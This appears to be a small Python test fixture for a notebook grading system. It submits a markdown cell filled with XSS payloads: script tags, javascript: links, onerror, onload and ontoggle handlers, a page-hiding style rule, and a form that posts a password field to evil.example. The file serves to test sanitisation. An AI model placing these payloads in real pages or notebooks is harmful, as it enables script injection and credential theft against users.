"""Writes HTML, links and formulas into its markdown."""

POINTS = 10
STATE = "graded"


TEXT = """
# <script>GOTCHA()</script> <a href="javascript:GOTCHA()">x</a> [y](javascript:GOTCHA())
<img src=x onerror="GOTCHA()"> <svg onload=GOTCHA()> <details ontoggle=GOTCHA() open>
<form action="https://evil.example"><input name=password></form> <style>* {display: none}</style>
"""


def hand_in(folder, notebook):
    notebook.add(TEXT, kind="markdown")
    notebook.add(TEXT, kind="raw")
    return notebook
